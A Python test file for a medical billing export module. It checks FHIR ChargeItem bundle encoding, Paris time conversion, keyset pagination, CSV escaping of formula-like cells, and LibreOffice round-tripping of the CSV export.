    full_url: str,
    *,
    identifier: str,
    code: dict[str, Any],
    cents: int,
    performer: dict[str, Any] | None,
    common: dict[str, Any],
    note: str | None,
    part_of: str | None = None,
    billable: bool = True,
) -> dict[str, Any]:
    resource: dict[str, Any] = {
        "resourceType": "ChargeItem",
        "id": full_url.removeprefix("urn:uuid:"),
        "identifier": [{"system": exports.ENTRY_SYSTEM, "value": identifier}],
        "status": "billable" if billable else "not-billable",
    }
    if part_of is not None:
        resource["partOf"] = [exports._ref(part_of, "ChargeItem")]
    resource["code"] = code
    resource.update(common)
    if performer is not None:
        resource["performer"] = [{"actor": performer}]
    resource["quantity"] = {"value": 1}
    resource["priceOverride"] = exports._money(cents)
    if note:
        resource["note"] = [{"text": note}]
    return {"fullUrl": full_url, "resource": resource}


def _ref_no_act(record: BillingRecord, common: dict[str, Any]) -> dict[str, Any]:
    """An entry that bills nothing still appears, as one not-billable ChargeItem of 0 EUR saying why."""
    status = record.status
    return _ref_charge_item(
        _ref_urn(f"{record.id}/none"),
        identifier=f"{record.id}/-",
        code={
            "coding": [
                {"system": exports.STATUS_SYSTEM, "code": status.value, "display": exports.STATUS_LABELS[status]}
            ]
        },
        cents=0,
        performer=None,
        common=common,
        note=record.reason,
        billable=False,
    )


def _reference_bundle(records: list[BillingRecord], catalog: ActCatalog, first: date, last: date, scope: str) -> bytes:
    texts = [exports.bundle_head(first, last, scope)]
    practitioners, labels = _RefPractitioners(), exports._Labels(catalog)
    separator = ',"entry":['
    for record in records:
        texts.append(separator + exports._dumps(list(_ref_entries(record, practitioners, labels)))[1:-1])
        separator = ","
    texts.append("}" if separator != "," else "]}")
    return "".join(texts).encode("utf-8")


async def test_the_fhir_bundle_is_byte_for_byte_what_the_encoder_writes() -> None:
    records = _odd_records() + [_record(n) for n in range(300, 3000)]
    catalog = ActCatalog.load()
    for some in (records, records[:1], records[2:3], []):
        found = await collect(fhir_chunks(_records(some), catalog, first=date(2026, 1, 1), last=date(2026, 12, 31)))
        assert found == _reference_bundle(some, catalog, date(2026, 1, 1), date(2026, 12, 31), "")
        json.loads(found)


def test_the_paris_times_of_a_year_are_paris_time_s() -> None:
    text = exports._CsvText(ActCatalog.load())
    moment = datetime(2025, 12, 31, 0, 0, 1, 500000, tzinfo=UTC)
    while moment.year < 2028:
        assert text._paris(moment) == exports.paris_time(moment), moment
        moment += timedelta(minutes=37, seconds=1)
    for odd in ODD_TIMES:
        assert text._paris(odd) == exports.paris_time(odd), odd


async def test_the_stores_lines_are_its_records_lines(ledger: Ledger) -> None:
    async with ledger.live.app[DATABASE].transaction() as tx:
        for scope in ({}, {"doctor_id": ledger.doctor.id}, {"rpps": OTHER_RPPS}):
            records = [record async for record in store.stream_current(tx, ledger.first, ledger.last, **scope)]
            lines = await store.current_lines(tx, ledger.first, ledger.last, **scope)
            assert lines == [line for record in records for line in exports.lines_of(record)]
            assert len({line.entry_id for line in lines}) == len(records) > 0
            for limit in (1, 2, 3):  # a page of whole entries however short: the keyset walks them all
                walked: list[BillingLine] = []
                while page := await store.current_lines(
                    tx, ledger.first, ledger.last, after=_keyset(walked), limit=limit, **scope
                ):
                    assert page[-1].entry_id not in {line.entry_id for line in walked}
                    walked += page
                assert walked == lines
        assert await store.current_lines(tx, ledger.first, ledger.last, after=(ledger.last, "~")) == []
        before = (ledger.first - timedelta(days=1), "~")  # a keyset before the range: the range from its start
        everything = await store.current_lines(tx, ledger.first, ledger.last)
        assert await store.current_lines(tx, ledger.first, ledger.last, after=before) == everything


def _keyset(lines: list[BillingLine]) -> tuple[date, str] | None:
    return (lines[-1].act_date, lines[-1].consultation_id) if lines else None


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 00", "'+33 6 00"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("Jeanne = Dupont", "Jeanne = Dupont"),
        ("", ""),
        (None, ""),
    ],
)
def test_a_cell_that_would_be_a_formula_gets_an_apostrophe(text: str | None, cell: str) -> None:
    assert safe_cell(text) == cell


# --- LibreOffice -------------------------------------------------------------------------------------------------


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed: the strict csv reader stands in")
async def test_libreoffice_opens_the_csv(ledger: Ledger, tmp_path: Path) -> None:
    assert SOFFICE is not None
    soffice = SOFFICE
    _, _, body = await _download(ledger, "csv")
    source = tmp_path / "export.csv"
    source.write_bytes(body)
    # 59 = ';', 34 = '"', 76 = UTF-8; the first line is the header.
    result = await asyncio.to_thread(
        subprocess.run,
        [
            soffice,
            "--headless",
            "--infilter=CSV:59,34,76,1",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
            str(tmp_path / "out"),
            str(source),
        ],
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    converted = (tmp_path / "out" / "export.csv").read_text(encoding="utf-8")
    parsed = list(csv.reader(io.StringIO(converted)))
    assert parsed[0][0].lstrip(CSV_BOM) == CSV_COLUMNS[0] and len(parsed) == len(_rows(body)) + 1
    assert any("TCG" in row for row in parsed)


def test_the_ids_are_the_standard_uuid5_of_the_entry() -> None:
    for name in ("b_000001/patient", "practitioner:rpps:10101010101", "b_é/act/0/modifier/1"):
        assert urn(name) == f"urn:uuid:{uuid.uuid5(NAMESPACE, name)}"


@pytest.mark.parametrize("fmt", ["csv", "fhir"])
async def test_pages_of_one_entry_give_the_same_bytes_and_a_reader_may_stop_early(
    ledger: Ledger, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    billing = ledger.live.app[BILLING]
    whole = await collect(billing.export(ledger.first, ledger.last, ExportFormat(fmt), doctor=ledger.doctor))
    for lines in (1, 2, 3):  # pages of a line or two: an entry's acts never split, the keyset walks them all
        monkeypatch.setattr(store, "EXPORT_BATCH", lines)
        paged = await collect(billing.export(ledger.first, ledger.last, ExportFormat(fmt), doctor=ledger.doctor))
        assert paged == whole
    monkeypatch.setattr(exports.formats, "CHUNK_CHARS", 1)  # a chunk per entry, so that the reader can stop after one
    chunks = billing.export(ledger.first, ledger.last, ExportFormat(fmt), doctor=ledger.doctor)
    assert await anext(chunks)
    await chunks.aclose()  # the page being read is let finish; its connection goes back to the pool
    again = await asyncio.wait_for(
        collect(billing.export(ledger.first, ledger.last, ExportFormat(fmt), doctor=ledger.doctor)), 30
    )
    assert again == whole
